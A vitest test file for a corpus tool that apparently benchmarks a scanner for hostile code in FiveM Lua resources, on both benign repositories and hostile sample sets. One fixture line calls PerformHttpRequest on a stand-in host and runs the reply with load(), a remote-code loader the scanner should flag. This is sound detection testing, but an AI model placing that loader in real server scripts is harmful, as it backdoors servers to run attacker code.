import { execFile } from 'node:child_process'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'

import { expect, test } from 'vitest'

import { temporaryFolder } from '#test-support/files.ts'

const run = promisify(execFile)

async function corpus(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    return { code: 0, ...(await run(process.execPath, ['corpus/main.ts', ...args])) }
  } catch (error) {
    if (error instanceof Error && 'code' in error && 'stdout' in error && 'stderr' in error)
      return { code: Number(error.code), stdout: String(error.stdout), stderr: String(error.stderr) }
    throw error
  }
}

/** A row without the spaces around its cells. */
const rowOf = (table: string, name: string) =>
  table
    .split('\n')
    .find((line) => line.startsWith(`| ${name} |`))
    ?.split('|')
    .slice(2, -1)
    .map((cell) => cell.trim())

const git = (folder: string, ...args: string[]) =>
  run('git', ['-C', folder, '-c', 'user.name=a', '-c', 'user.email=a@example.com', ...args])

/** A git repository with a resource, and its commit. */
async function repositoryIn(folder: string, name: string, code: string): Promise<string> {
  const repository = join(folder, name)
  await mkdir(repository, { recursive: true })
  await writeFile(
    join(repository, 'fxmanifest.lua'),
    "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'a.lua'",
  )
  await writeFile(join(repository, 'a.lua'), code)
  await git(repository, 'init', '-q')
  await git(repository, 'add', '.')
  await git(repository, 'commit', '-q', '-m', 'a')
  return (await git(repository, 'rev-parse', 'HEAD')).stdout.trim()
}

const downloads = "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)"

test('benign measures the repositories of a list and compares with an earlier result', async () => {
  const folder = await temporaryFolder()
  const first = await repositoryIn(folder, 'owner/clean', 'print(1)')
  const second = await repositoryIn(folder, 'owner/loader', downloads)
  const lock = join(folder, 'list.lock')
  const before = join(folder, 'before.json')
  await writeFile(lock, `owner/clean ${first}\nowner/gone ${first}\n`)
  const options = ['benign', '--folder', folder, '--lock', lock]

  const clean = await corpus(...options, '--json', before)
  expect(clean.stderr).toContain('owner/clean: 2 files, 0 high, 0 medium, 0 low')
  expect(clean.stderr).toContain('owner/gone: not in')
  expect(rowOf(clean.stdout, '`runs-downloaded-code`')).toEqual(['0', '0', '0', '0', '0', '–'])
  expect(JSON.parse(await readFile(before, 'utf8'))).toMatchObject({
    repositories: [{ repository: 'owner/clean', state: 'done', files: 2, resources: 1 }],
    findings: [],
  })

  await writeFile(lock, `owner/clean ${first}\nowner/loader ${second}\n`)
  const both = await corpus(...options, '--compare', before)
  expect(rowOf(both.stdout, '`runs-downloaded-code`')).toEqual(['1', '0', '0', '0', '0', '–'])
  expect(both.stdout).toContain('+ high runs-downloaded-code owner/loader a.lua:1')

  const one = await corpus(...options, '--only', 'clean')
  expect(one.stderr).not.toContain('owner/loader')
})

test('benign says that a commit is missing', async () => {
  const folder = await temporaryFolder()
  await repositoryIn(folder, 'owner/clean', 'print(1)')
  await writeFile(join(folder, 'list.lock'), `owner/clean ${'1'.repeat(40)}\n`)

  const { code, stderr } = await corpus('benign', '--folder', folder, '--lock', join(folder, 'list.lock'))

  expect(code).toBe(0)
  expect(stderr).toContain(`owner/clean: has no commit ${'1'.repeat(40)}`)
})

const set = `Two programs.
=== loader | lua | downloads code
${downloads}
=== clean | js | does nothing | server/a.js
console.log(1)
`

test('hostile counts the programs of a set and names those that are missed', async () => {
  const sets = await temporaryFolder()
  await writeFile(join(sets, 'set-a.txt'), set)

  const { stdout } = await corpus('hostile', '--sets', sets, '--missed')

  expect(rowOf(stdout, 'set-a')).toEqual(['2', '1', '1'])
  expect(stdout).toContain('set-a clean: does nothing')
  expect(stdout).not.toContain('set-a loader')
})

test('mutations change the programs that are found unchanged', async () => {
  const sets = await temporaryFolder()
  await writeFile(join(sets, 'set-a.txt'), set)

  const { stdout } = await corpus('mutations', '--sets', sets)

  const [programs, found, unread, silent] = rowOf(stdout, 'all') ?? []
  expect(Number(programs)).toBeGreaterThan(10)
  expect([found, unread, silent]).toEqual([programs, '0', '0'])
})

test.each([
  [[], 'Usage:'],
  [['benign'], 'Usage:'],
  [['hostile', '--sets', '/does/not/exist'], 'no such file or directory'],
  [['hostile', '--unknown'], 'Unknown option'],
])('%j is bad usage', async (args, message) => {
  const { code, stderr } = await corpus(...args)

  expect(code).toBe(2)
  expect(stderr).toContain(message)
  expect(stderr).not.toContain('    at ')
})
